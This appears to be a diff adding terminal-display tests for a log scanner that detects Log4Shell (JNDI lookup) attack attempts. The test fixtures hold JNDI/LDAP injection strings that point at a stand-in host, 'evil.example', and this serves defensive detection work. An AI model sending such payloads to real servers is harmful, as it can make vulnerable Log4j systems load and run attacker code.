@@ -234,6 +234,41 @@ class Terminals(Case):
         done = self.run_cli("detect", "-v", log, status=1, env=env)
         self.assertNotIn(b"\x1b", done.stdout + done.stderr)
 
+    def test_an_attack_is_seen_on_any_terminal(self):
+        log = self.write("a.log", line(1, "${jndi:ldap://evil.example:1389/a}").replace("192.0.2.1", "2001:db8:1111:2222:3333:4444:5555:6666"))
+        for columns in (40, 60, 80, 100, 120, 200):
+            shown, _ = cli_case.on_terminal(["detect", "-q", "-v", log], columns, dict(self.env, TERM="xterm", NO_COLOR="1"))
+            rows = shown.replace("\r\n", "\n").splitlines()
+            self.assertFalse([r for r in rows if len(r) > columns], columns)
+            self.assertIn("exploit", shown)
+            self.assertIn("2.0-beta9-2.14.1", shown)
+            self.assertIn("\\x24{jndi:ldap[:]//evil[.]", shown)
+        self.assertEqual(len(rows), 1)
+        self.assertEqual(self.run_cli("detect", "-q", "-v", log, status=1).stdout.count(b"\n"), 1)
+
+    def test_progress_and_attempts_share_a_terminal(self):
+        log = self.write("a-log-of-a-long-name-that-fills-a-row.log", (attack(1) + line(2) * 1000) * 300)
+        for args in (["-v"], ["--json"], ["--output", "csv"]):
+            shown, status = cli_case.on_terminal(["detect", "-j", "1", *args, log], 60, dict(self.env, TERM="xterm", NO_COLOR="1"))
+            self.assertEqual(status, 1)
+            progress = re.findall("\r\x1b\\[K([^\r\n\x1b]+)(\r\x1b\\[K|$)?", shown)
+            progress = [(text, end) for text, end in progress if " MB/s  " in text]
+            self.assertTrue(progress)
+            for text, end in progress:  # each is taken back before anything else, and stands on one row
+                self.assertLess(len(text), 60)
+                self.assertEqual(end, "\r\x1b[K", text)
+        shown, _ = cli_case.on_terminal(["detect", "-j", "1", log], 60, dict(self.env, TERM="dumb"))
+        self.assertNotIn("\x1b", shown)
+        self.assertNotIn("MB/s", shown)
+
+    def test_a_chart_for_terminals_without_blocks(self):
+        log = self.write("a.log", "".join(line(n, "${jndi:ldap://evil.example/a}", minute=m) for m in range(9) for n in range(m)))
+        for env, chart in (({"LC_ALL": "C"}, "|.:-=+*#@|"), ({"LC_ALL": "", "LANG": "de_DE.ISO-8859-1"}, "|.:-=+*#@|"),
+                           ({"LC_ALL": "en_US.utf8"}, "|\u2581\u2582\u2583\u2584\u2585\u2586\u2587\u2588|"),
+                           ({"LC_ALL": "", "LC_CTYPE": "", "LANG": ""}, "|\u2581\u2582\u2583\u2584\u2585\u2586\u2587\u2588|")):
+            out = self.run_cli("detect", log, status=1, env=dict(self.env, **env)).stdout.decode()
+            self.assertIn("attempts  %s  max 8" % chart.strip("|"), out)
+
     def test_complaints_once_on_a_terminal(self):
         shown, status = cli_case.on_terminal(["detect", self.write("a.log", attack(1)), self.path("gone.log")], 100, dict(self.env, TERM="xterm"))
         self.assertEqual(status, 3)
